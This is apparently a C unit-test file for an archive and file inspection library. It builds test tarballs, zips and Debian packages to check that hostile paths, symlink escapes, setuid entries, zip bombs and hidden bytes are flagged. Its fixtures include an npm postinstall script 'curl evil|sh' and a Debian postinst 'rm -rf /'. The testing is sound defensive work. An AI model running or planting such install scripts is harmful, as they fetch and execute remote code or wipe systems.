/* Unit tests of the inspection of files and archives: golden facts, each finding, each limit. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <cmocka.h>

#include <archive.h>
#include <archive_entry.h>
#include <fcntl.h>
#include <locale.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "lib/base/fd.h"
#include "lib/format/inspect.h"

#define assert_rc(expected, expr) assert_int_equal((expected), (expr).code)

static int memory_file(const void *bytes, size_t n)
{
	int fd = memfd_create("inspect", MFD_CLOEXEC);

	assert_true(fd >= 0);
	assert_rc(RC_OK, fd_write_full(fd, bytes, n, NULL));
	return fd;
}

static json_t *inspect(int fd, const char *name, const struct inspect_limits *l)
{
	json_t *report = NULL;
	struct fault f = {0};

	assert_rc(RC_OK,
		  inspect_file(fd, name, l == NULL ? &inspect_limits_default : l, &report, &f));
	assert_non_null(report);
	return report;
}

static json_t *inspect_bytes(const void *bytes, size_t n, const char *name)
{
	AUTO(fd) int fd = memory_file(bytes, n);

	return inspect(fd, name, NULL);
}

/* The path ("" without one) of the first finding of that code; NULL if there is none. */
static const char *found(const json_t *report, const char *code)
{
	size_t i;
	json_t *e;

	json_array_foreach(json_object_get(report, "findings"), i, e)
	{
		const char *path = json_string_value(json_object_get(e, "path"));

		if (strcmp(json_string_value(json_object_get(e, "code")), code) == 0)
			return path == NULL ? "" : path;
	}
	return NULL;
}

static const char *text(const json_t *o, const char *key)
{
	return json_string_value(json_object_get(o, key));
}

/* An archive made in memory. */
struct made {
	struct archive *a;
	int fd;
};

/* The format's name as archive_write_set_format_by_name knows it. */
static struct made make(const char *format, int filter)
{
	struct made m = {.a = archive_write_new(), .fd = memfd_create("made", MFD_CLOEXEC)};

	assert_true(m.fd >= 0);
	assert_int_equal(archive_write_set_format_by_name(m.a, format), ARCHIVE_OK);
	assert_int_equal(archive_write_add_filter(m.a, filter), ARCHIVE_OK);
	assert_int_equal(archive_write_open_fd(m.a, m.fd), ARCHIVE_OK);
	return m;
}

struct spec {
	const char *path;
	unsigned type; /* 0: AE_IFREG */
	unsigned mode; /* 0: 0644 */
	const char *content;
	const char *symlink;
	const char *hardlink;
};

static void put_bytes(struct made *m, const char *path, const void *bytes, size_t n)
{
	struct archive_entry *e = archive_entry_new();

	archive_entry_set_pathname(e, path);
	archive_entry_set_filetype(e, AE_IFREG);
	archive_entry_set_perm(e, 0644);
	archive_entry_set_size(e, (la_int64_t)n);
	assert_int_equal(archive_write_header(m->a, e), ARCHIVE_OK);
	assert_int_equal(archive_write_data(m->a, bytes, n), (la_ssize_t)n);
	archive_entry_free(e);
}

static void put(struct made *m, struct spec s)
{
	struct archive_entry *e = archive_entry_new();
	size_t n = s.content == NULL ? 0 : strlen(s.content);

	archive_entry_set_pathname(e, s.path);
	archive_entry_set_filetype(e, s.type == 0 ? AE_IFREG : s.type);
	archive_entry_set_perm(e, s.mode == 0 ? 0644 : s.mode);
	archive_entry_set_size(e, (la_int64_t)n);
	archive_entry_set_uid(e, 1000);
	archive_entry_set_uname(e, "builder");
	if (s.symlink != NULL)
		archive_entry_set_symlink(e, s.symlink);
	if (s.hardlink != NULL)
		archive_entry_set_hardlink(e, s.hardlink);
	assert_int_equal(archive_write_header(m->a, e), ARCHIVE_OK);
	if (n > 0)
		assert_int_equal(archive_write_data(m->a, s.content, n), (la_ssize_t)n);
	archive_entry_free(e);
}

static json_t *finish(struct made *m, const char *name, const struct inspect_limits *l)
{
	json_t *report;

	assert_int_equal(archive_write_close(m->a), ARCHIVE_OK);
	archive_write_free(m->a);
	report = inspect(m->fd, name, l);
	(void)close(m->fd);
	return report;
}

static const json_t *entry(const json_t *report, size_t i)
{
	const json_t *list = json_object_get(json_object_get(report, "archive"), "entries");

	return json_array_get(list, i);
}

static void plain_files(void **state)
{
	json_t *r = inspect_bytes("hello\n", 6, "hello.txt");
	AUTO(buf) struct buf b = {0};

	(void)state;
	buf_init(&b, 4096);
	assert_rc(RC_OK, inspect_dump(r, &b));
	assert_string_equal(
		buf_cstr(&b),
		"{\"complete\":true,\"entropy\":225,\"findings\":[],\"name\":\"hello.txt\","
		"\"schema\":\"greatseal-inspection-1\","
		"\"sha256\":\"5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03\","
		"\"sha512\":"
		"\"e7c22b994c59d9cf2b48e549b1e24666636045930d3da7c1acb299d1c3b7f931f94aae41ed"
		"da2c2b207a36e10f8bcb8d45223e54878f5b316e7ce3b6bc019629\",\"size\":6,\"type\":"
		"\"text\"}");
	buf_release(&b);
	buf_init(&b, 10);
	assert_rc(RC_LIMIT, inspect_dump(r, &b));
	json_decref(r);
}

static void types(void **state)
{
	static const struct {
		const char *bytes;
		size_t len;
		const char *type;
	} table[] = {
		{"", 0, "empty"},
		{"\177ELF\2\1", 6, "elf"},
		{"#!/bin/sh\n", 10, "script"},
		{"%PDF-1.7", 8, "pdf"},
		{"a\0b", 3, "data"},
		{"\x01\x02", 2, "data"},
		{"MSCF\0\0\0\0", 8, "cab"},
	};

	(void)state;
	for (size_t i = 0; i < sizeof(table) / sizeof(table[0]); i++) {
		json_t *r = inspect_bytes(table[i].bytes, table[i].len, "x");

		assert_string_equal(text(r, "type"), table[i].type);
		assert_true(json_is_true(json_object_get(r, "complete")));
		json_decref(r);
	}
	json_t *r = inspect_bytes("#!/bin/sh\n", 10, "setup.exe");
	assert_non_null(found(r, "type-name-mismatch"));
	json_decref(r);
	r = inspect_bytes("x", 1, "a\xe2\x80\xae\n");
	assert_string_equal(text(r, "name"), "a\\u{202e}\\x0a");
	json_decref(r);
}

static void refusals(void **state)
{
	char name[INSPECT_NAME_MAX + 2];
	AUTO(fd) int fd = memory_file("x", 1);
	int ends[2];
	json_t *r = NULL;
	struct fault f;

	(void)state;
	memset(name, 'a', sizeof(name));
	name[sizeof(name) - 1] = '\0';
	assert_rc(RC_LIMIT, inspect_file(fd, name, &inspect_limits_default, &r, &f));
	assert_int_equal(pipe(ends), 0);
	assert_rc(RC_UNSUPPORTED, inspect_file(ends[0], "x", &inspect_limits_default, &r, &f));
	(void)close(ends[0]);
	(void)close(ends[1]);
	assert_rc(RC_IO, inspect_file(-1, "x", &inspect_limits_default, &r, &f));
	assert_null(r);
}

static void tar_tree(void **state)
{
	struct made m = make("pax", ARCHIVE_FILTER_GZIP);
	json_t *r;

	(void)state;
	/* The writer wants the locale; the reader must not. */
	assert_non_null(setlocale(LC_ALL, "C.UTF-8"));
	put(&m, (struct spec){.path = "d/", .type = AE_IFDIR, .mode = 0755});
	put(&m, (struct spec){.path = "d/f", .content = "hello\n"});
	put(&m, (struct spec){.path = "d/l", .type = AE_IFLNK, .mode = 0777, .symlink = "f"});
	put(&m, (struct spec){.path = "d/h", .hardlink = "d/f"});
	put(&m, (struct spec){.path = "d/gr\xc3\xbc\xc3\x9f", .content = "x"});
	assert_non_null(setlocale(LC_ALL, "C"));
	r = finish(&m, "a.tar.gz", NULL);
	assert_string_equal(text(r, "type"), "gzip");
	assert_true(json_is_true(json_object_get(r, "complete")));
	assert_int_equal(json_array_size(json_object_get(r, "findings")), 0);
	assert_string_equal(text(entry(r, 0), "type"), "dir");
	assert_string_equal(text(entry(r, 1), "path"), "d/f");
	assert_string_equal(text(entry(r, 1), "mode"), "0644");
	assert_string_equal(text(entry(r, 1), "owner"), "builder");
	assert_int_equal(json_integer_value(json_object_get(entry(r, 1), "uid")), 1000);
	assert_int_equal(json_integer_value(json_object_get(entry(r, 1), "size")), 6);
	assert_string_equal(text(entry(r, 1), "sha256"),
			    "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03");
	assert_string_equal(text(entry(r, 2), "target"), "f");
	assert_string_equal(text(entry(r, 3), "type"), "hardlink");
	assert_string_equal(text(entry(r, 3), "target"), "d/f");
	assert_string_equal(text(entry(r, 4), "path"), "d/gr\xc3\xbc\xc3\x9f");
	json_decref(r);
}

/* The report must not depend on the locale of whoever makes it. */
static void locale_does_not_matter(void **state)
{
	struct made m = make("pax", ARCHIVE_FILTER_NONE);
	AUTO(buf) struct buf a = {0};
	AUTO(buf) struct buf b = {0};
	json_t *r, *again;
	int copy;

	(void)state;
	assert_non_null(setlocale(LC_ALL, "C.UTF-8"));
	put(&m, (struct spec){.path = "gr\xc3\xbc\xc3\x9f", .content = "x"});
	assert_non_null(setlocale(LC_ALL, "C"));
	copy = dup(m.fd);
	r = finish(&m, "a.tar", NULL);
	assert_non_null(setlocale(LC_ALL, "C.UTF-8"));
	again = inspect(copy, "a.tar", NULL);
	assert_non_null(setlocale(LC_ALL, "C"));
	buf_init(&a, 65536);
	buf_init(&b, 65536);
	assert_rc(RC_OK, inspect_dump(r, &a));
	assert_rc(RC_OK, inspect_dump(again, &b));
	assert_string_equal(buf_cstr(&a), buf_cstr(&b));
	json_decref(r);
	json_decref(again);
	(void)close(copy);
}

static void hostile_paths(void **state)
{
	struct made m = make("gnutar", ARCHIVE_FILTER_NONE);
	char deep[3 * 70 + 1] = "";
	json_t *r;

	(void)state;
	for (size_t i = 0; i < 70; i++)
		memcpy(deep + 3 * i, "ab/", 4);
	deep[sizeof(deep) - 2] = 'x';
	put(&m, (struct spec){.path = "/etc/cron.d/x", .content = "x"});
	put(&m, (struct spec){.path = "a/../../b", .content = "x"});
	put(&m, (struct spec){.path = "c\nd", .content = "x"});
	put(&m, (struct spec){.path = "twice", .content = "1"});
	put(&m, (struct spec){.path = "./twice", .content = "2"});
	put(&m, (struct spec){.path = "link", .type = AE_IFLNK, .symlink = "/tmp"});
	put(&m, (struct spec){.path = "link/evil", .content = "x"});
	put(&m, (struct spec){.path = "d/out", .type = AE_IFLNK, .symlink = "../../etc"});
	put(&m, (struct spec){.path = "suid", .mode = 04755, .content = "x"});
	put(&m, (struct spec){.path = "open", .mode = 0666, .content = "x"});
	put(&m, (struct spec){.path = "tty", .type = AE_IFCHR});
	put(&m, (struct spec){.path = "win\\dows", .content = "x"});
	put(&m, (struct spec){.path = deep, .content = "x"});
	r = finish(&m, "a.tar", NULL);
	assert_string_equal(found(r, "path-absolute"), "/etc/cron.d/x");
	assert_string_equal(found(r, "path-up"), "a/../../b");
	assert_string_equal(found(r, "path-hidden-characters"), "c\\x0ad");
	assert_string_equal(found(r, "path-duplicate"), "twice");
	assert_string_equal(found(r, "link-absolute"), "link");
	assert_string_equal(found(r, "path-through-link"), "link/evil");
	assert_string_equal(found(r, "link-escapes"), "d/out");
	assert_string_equal(found(r, "setid"), "suid");
	assert_string_equal(found(r, "world-writable"), "open");
	assert_string_equal(found(r, "device"), "tty");
	assert_string_equal(found(r, "path-backslash"), "win\\\\dows");
	assert_string_equal(found(r, "path-too-deep"), deep);
	assert_true(json_is_true(json_object_get(entry(r, 8), "setid")));
	json_decref(r);
}

static void path_too_long(void **state)
{
	struct made m = make("gnutar", ARCHIVE_FILTER_NONE);
	char *path = (char *)malloc(INSPECT_PATH_MAX + 2);
	json_t *r;

	(void)state;
	assert_non_null(path);
	memset(path, 'a', INSPECT_PATH_MAX + 1);
	path[INSPECT_PATH_MAX + 1] = '\0';
	put(&m, (struct spec){.path = path, .content = "x"});
	r = finish(&m, "a.tar", NULL);
	assert_non_null(found(r, "path-too-long"));
	assert_true(json_is_false(json_object_get(r, "complete")));
	json_decref(r);
	free(path);
}

static void limits(void **state)
{
	struct inspect_limits l = inspect_limits_default;
	static char zeros[1 << 20];
	struct made m;
	json_t *r;

	(void)state;
	l.entries = 10;
	m = make("ustar", ARCHIVE_FILTER_GZIP);
	for (int i = 0; i < 20; i++)
		put(&m, (struct spec){.path = "same", .content = "x"});
	r = finish(&m, "a.tar.gz", &l);
	assert_non_null(found(r, "too-many-entries"));
	assert_true(json_is_false(json_object_get(r, "complete")));
	assert_non_null(entry(r, 9));
	assert_null(entry(r, 10));
	json_decref(r);

	/* 100 MiB of nothing in 100 KiB: over the ratio and its floor. */
	l = inspect_limits_default;
	m = make("ustar", ARCHIVE_FILTER_GZIP);
	for (int i = 0; i < 100; i++)
		put_bytes(&m, "z", zeros, sizeof(zeros));
	r = finish(&m, "a.tar.gz", &l);
	assert_non_null(found(r, "expands-too-far"));
	json_decref(r);

	l.report = 10000;
	m = make("zip", ARCHIVE_FILTER_NONE);
	for (int i = 0; i < 20; i++)
		put(&m, (struct spec){.path = "f", .content = "x"});
	r = finish(&m, "a.zip", &l);
	assert_non_null(found(r, "report-too-large"));
	json_decref(r);

	l = inspect_limits_default;
	l.findings = 3;
	m = make("ustar", ARCHIVE_FILTER_NONE);
	for (int i = 0; i < 8; i++) {
		char path[8] = {'/', (char)('a' + i)};

		put(&m, (struct spec){.path = path, .content = "x"});
	}
	r = finish(&m, "a.tar", &l);
	assert_int_equal(json_array_size(json_object_get(r, "findings")), 3);
	assert_int_equal(json_integer_value(json_object_get(r, "findings_left_off")), 5);
	assert_true(json_is_false(json_object_get(r, "complete")));
	json_decref(r);
}

static void damage(void **state)
{
	struct made m = make("zip", ARCHIVE_FILTER_NONE);
	static uint8_t bytes[4096];
	uint64_t size;
	json_t *r;

	(void)state;
	for (int i = 0; i < 5; i++)
		put(&m, (struct spec){.path = "file", .content = "some content that is stored"});
	assert_int_equal(archive_write_close(m.a), ARCHIVE_OK);
	archive_write_free(m.a);
	assert_rc(RC_OK, fd_size(m.fd, &size, NULL));
	assert_true(size < sizeof(bytes));
	assert_rc(RC_OK, fd_pread_full(m.fd, bytes, size, 0, NULL));
	(void)close(m.fd);
	/* Cut at any place: never silence. */
	for (size_t n = 4; n < size; n += 7) {
		r = inspect_bytes(bytes, n, "a.zip");
		assert_true(json_is_false(json_object_get(r, "complete")));
		assert_non_null(found(r, "archive-damaged"));
		json_decref(r);
	}
	r = inspect_bytes("\037\213\010\0\0\0\0\0\0\0garbage", 17, "a.gz");
	assert_non_null(found(r, "archive-damaged"));
	json_decref(r);
}

/* Bytes where no unpacker looks, and members where only some look. */
static void hidden_bytes(void **state)
{
	static const char *const formats[] = {"zip", "ustar", "arsvr4"};
	static const char *const codes[] = {"trailing-data", "archive-damaged", "trailing-data"};
	struct made m, behind;
	json_t *r;

	(void)state;
	for (size_t i = 0; i < 3; i++) {
		m = make(formats[i], ARCHIVE_FILTER_NONE);
		put(&m, (struct spec){.path = "a", .content = "xx"});
		assert_int_equal(archive_write_close(m.a), ARCHIVE_OK);
		assert_rc(RC_OK, fd_write_full(m.fd, "hidden bytes", 12, NULL));
		r = finish(&m, "a", NULL);
		assert_non_null(found(r, codes[i]));
		json_decref(r);
	}
	m = make("raw", ARCHIVE_FILTER_GZIP);
	put(&m, (struct spec){.path = "a", .content = "xx"});
	assert_int_equal(archive_write_close(m.a), ARCHIVE_OK);
	assert_rc(RC_OK, fd_write_full(m.fd, "hidden bytes", 12, NULL));
	r = finish(&m, "a.gz", NULL);
	assert_non_null(found(r, "trailing-data"));
	json_decref(r);

	m = make("ustar", ARCHIVE_FILTER_NONE);
	put(&m, (struct spec){.path = "a", .content = "x"});
	assert_int_equal(archive_write_close(m.a), ARCHIVE_OK);
	behind = (struct made){.a = archive_write_new(), .fd = m.fd};
	assert_int_equal(archive_write_set_format_ustar(behind.a), ARCHIVE_OK);
	assert_int_equal(archive_write_open_fd(behind.a, behind.fd), ARCHIVE_OK);
	put(&behind, (struct spec){.path = "behind", .content = "x"});
	archive_write_free(m.a);
	r = finish(&behind, "a.tar", NULL);
	assert_string_equal(text(entry(r, 1), "path"), "behind");
	json_decref(r);
}

/* A program in front of a zip is still a zip for some. */
static void bytes_in_front(void **state)
{
	struct made m = make("zip", ARCHIVE_FILTER_NONE);
	AUTO(fd) int fd = memfd_create("front", MFD_CLOEXEC);
	uint8_t bytes[4096];
	uint64_t size;
	json_t *r;

	(void)state;
	put(&m, (struct spec){.path = "a", .content = "xx"});
	assert_int_equal(archive_write_close(m.a), ARCHIVE_OK);
	archive_write_free(m.a);
	assert_rc(RC_OK, fd_size(m.fd, &size, NULL));
	assert_rc(RC_OK, fd_pread_full(m.fd, bytes, size, 0, NULL));
	(void)close(m.fd);
	assert_rc(RC_OK, fd_write_full(fd, "PK\003\004 not a member", 18, NULL));
	assert_rc(RC_OK, fd_write_full(fd, bytes, size, NULL));
	r = inspect(fd, "a.zip", NULL);
	assert_true(found(r, "leading-data") != NULL || found(r, "archive-damaged") != NULL);
	json_decref(r);
}

static void compressed_file(void **state)
{
	struct made m = make("raw", ARCHIVE_FILTER_GZIP);
	json_t *r;

	(void)state;
	put(&m, (struct spec){.path = "x", .content = "hello\n"});
	r = finish(&m, "notes.gz", NULL);
	assert_string_equal(text(entry(r, 0), "path"), "data");
	assert_string_equal(text(entry(r, 0), "sha256"),
			    "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03");
	json_decref(r);
}

static void npm_package(void **state)
{
	struct made m = make("ustar", ARCHIVE_FILTER_GZIP);
	const json_t *npm;
	json_t *r;

	(void)state;
	put(&m, (struct spec){.path = "package/package.json",
			      .content = "{\"name\":\"left\",\"version\":\"1.2.3\",\"scripts\":{"
					 "\"test\":\"true\",\"postinstall\":\"curl evil|sh\"},"
					 "\"dependencies\":{\"a\":\"1\",\"b\":\"2\"}}"});
	r = finish(&m, "left.tgz", NULL);
	npm = json_object_get(r, "npm");
	assert_string_equal(text(npm, "name"), "left");
	assert_string_equal(text(npm, "version"), "1.2.3");
	assert_int_equal(json_integer_value(json_object_get(npm, "dependencies")), 2);
	assert_string_equal(text(json_object_get(npm, "scripts"), "postinstall"), "curl evil|sh");
	assert_string_equal(found(r, "npm-install-script"), "package/package.json");
	json_decref(r);

	m = make("ustar", ARCHIVE_FILTER_GZIP);
	put(&m,
	    (struct spec){.path = "p/package.json", .content = "{\"name\":\"a\",\"name\":\"b\"}"});
	r = finish(&m, "left.tgz", NULL);
	assert_non_null(found(r, "npm-package"));
	json_decref(r);
}

/* A tar of one member as bytes, for the inside of a .deb. */
static size_t tar_bytes(const char *path, const char *content, unsigned mode, uint8_t *out,
			size_t cap)
{
	struct archive *a = archive_write_new();
	struct made m = {.a = a};
	size_t used = 0;

	assert_int_equal(archive_write_set_format_ustar(a), ARCHIVE_OK);
	assert_int_equal(archive_write_add_filter_gzip(a), ARCHIVE_OK);
	assert_int_equal(archive_write_open_memory(a, out, cap, &used), ARCHIVE_OK);
	put(&m, (struct spec){.path = path, .content = content, .mode = mode});
	if (strcmp(path, "./postinst") == 0)
		put(&m,
		    (struct spec){.path = "./control",
				  .content = "Package: demo\nVersion: 2.0\nDepends: a,\n b\n\n"});
	assert_int_equal(archive_write_close(a), ARCHIVE_OK);
	archive_write_free(a);
	return used;
}

static struct made deb_with(const char *script, bool swapped)
{
	struct made m = make("arsvr4", ARCHIVE_FILTER_NONE);
	uint8_t control[200000], data[20000];
	size_t c = tar_bytes("./postinst", script, 0755, control, sizeof(control));
	size_t d = tar_bytes("./usr/bin/demo", "#!/bin/sh\n", 04755, data, sizeof(data));

	put_bytes(&m, "debian-binary", "2.0\n", 4);
	if (swapped)
		put_bytes(&m, "data.tar.gz", data, d);
	put_bytes(&m, "control.tar.gz", control, c);
	if (!swapped)
		put_bytes(&m, "data.tar.gz", data, d);
	return m;
}

static void debian_package(void **state)
{
	struct made m = deb_with("#!/bin/sh\nrm -rf /\n", false);
	json_t *r = finish(&m, "demo.deb", NULL);
	const json_t *deb = json_object_get(r, "deb");
	const json_t *script = json_array_get(json_object_get(deb, "scripts"), 0);

	(void)state;
	assert_string_equal(text(r, "type"), "deb");
	assert_true(json_is_true(json_object_get(r, "complete")));
	assert_string_equal(text(json_object_get(deb, "control"), "Version"), "2.0");
	assert_string_equal(text(json_object_get(deb, "control"), "Depends"), "a,\n b");
	assert_string_equal(text(script, "name"), "postinst");
	assert_string_equal(text(script, "text"), "#!/bin/sh\nrm -rf /\n");
	assert_string_equal(found(r, "maintainer-script"), "postinst");
	assert_string_equal(found(r, "setid"), "usr/bin/demo");
	assert_string_equal(text(entry(r, 0), "path"), "usr/bin/demo");
	assert_null(found(r, "deb-member"));
	json_decref(r);
}

static void debian_oddities(void **state)
{
	struct inspect_limits l = inspect_limits_default;
	struct made m = deb_with("#!/bin/sh\n", true);
	json_t *r = finish(&m, "demo.deb", NULL);

	(void)state;
	assert_string_equal(found(r, "deb-member"), "data.tar.gz");
	json_decref(r);
	l.script_text = 8;
	m = deb_with("#!/bin/sh\necho long\n", false);
	r = finish(&m, "demo.deb", &l);
	assert_string_equal(found(r, "script-cut"), "postinst");
	assert_true(json_is_false(json_object_get(r, "complete")));
	json_decref(r);
}

/* An ar inside an ar is listed, not opened: there is no way to go deeper. */
static void nesting_is_flat(void **state)
{
	struct made m = make("ustar", ARCHIVE_FILTER_GZIP);
	uint8_t inner[20000];
	size_t n = tar_bytes("x", "y", 0644, inner, sizeof(inner));
	json_t *r;

	(void)state;
	put_bytes(&m, "inner.tar.gz", inner, n);
	r = finish(&m, "a.tar.gz", NULL);
	assert_string_equal(text(entry(r, 0), "path"), "inner.tar.gz");
	assert_null(entry(r, 1));
	json_decref(r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(plain_files),
		cmocka_unit_test(types),
		cmocka_unit_test(refusals),
		cmocka_unit_test(tar_tree),
		cmocka_unit_test(locale_does_not_matter),
		cmocka_unit_test(hostile_paths),
		cmocka_unit_test(path_too_long),
		cmocka_unit_test(limits),
		cmocka_unit_test(damage),
		cmocka_unit_test(compressed_file),
		cmocka_unit_test(hidden_bytes),
		cmocka_unit_test(bytes_in_front),
		cmocka_unit_test(npm_package),
		cmocka_unit_test(debian_package),
		cmocka_unit_test(debian_oddities),
		cmocka_unit_test(nesting_is_flat),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
